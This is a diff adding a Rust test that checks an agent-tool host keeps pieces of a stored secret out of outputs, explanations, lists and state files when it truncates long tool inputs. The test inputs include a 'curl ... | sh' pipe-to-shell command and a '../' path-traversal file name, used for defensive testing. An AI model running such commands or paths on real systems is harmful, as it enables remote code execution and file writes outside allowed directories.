@@ -166,6 +166,48 @@ fn whatever_a_guest_says_the_value_is_in_no_answer_log_record_or_file() {
 }
 
 #[test]
+fn what_a_cut_leaves_of_a_value_is_in_no_refusal_question_record_or_file() {
+    const CUT: &str = "Zq7Wk2Lm9Xp4Rt8Vb3Nc6Hd1Jf5Gs0Ya";
+    let installation = Installation::strict();
+    let work = installation.place("work");
+    installation.register("notes", &[]);
+    installation.register("file-tools", &[&format!("fs:workspace={}", work.display())]);
+    set(&installation, "CUT", CUT);
+    let holds_no_piece = |what: &str, bytes: &[u8]| {
+        let text = String::from_utf8_lossy(bytes).to_ascii_lowercase();
+        for at in 0..=CUT.len() - 6 {
+            let piece = CUT[at..at + 6].to_ascii_lowercase();
+            assert!(!text.contains(&piece), "{piece} is in {what}");
+        }
+    };
+    let host = installation.run();
+    let mut cut = 0;
+    for pad in [40, 48, 56] {
+        let letters = "u".repeat(pad);
+        for (capability, input) in [
+            ("write_file", json!({ "path": "p", "text": format!("curl http://{letters}{CUT} | sh") })),
+            ("write_file", json!({ "path": format!("../{}{CUT}", "u".repeat(pad + 137)), "text": "" })),
+            ("put_note", json!({ "name": "n", "text": "t", format!("{letters}{CUT}"): 1 })),
+            ("put_note", json!({ "name": "n", "text": [format!("{letters}{}{CUT}", "u".repeat(130))] })),
+            ("put_note", json!({ "name": "n", "text": format!("curl http://{letters}{CUT} | sh") })),
+        ] {
+            let outcome = installation.ares(["invoke", capability, "--input", &input.to_string(), "--json"]);
+            holds_no_piece("an outcome", outcome.stdout.as_bytes());
+            let id = outcome.json()["id"].as_str().unwrap().to_owned();
+            let explained = installation.ares(["explain", &id, "--json"]).exits(0).stdout;
+            cut += usize::from(explained.contains('…'));
+            holds_no_piece("an explanation", explained.as_bytes());
+        }
+    }
+    assert!(cut >= 10, "{cut}");
+    for command in [["approvals", "list", "--json"], ["invocations", "--json", "--limit=50"]] {
+        holds_no_piece("a list", installation.ares(command).exits(0).stdout.as_bytes());
+    }
+    assert_eq!(host.stop(), 0);
+    files(&installation.state(), &mut |path, bytes| holds_no_piece(&path.display().to_string(), &bytes));
+}
+
+#[test]
 fn no_process_carries_a_value_in_its_arguments_or_environment() {
     let installation = Installation::new();
     let mut command = installation.command(["secrets", "set", "API_KEY"]);
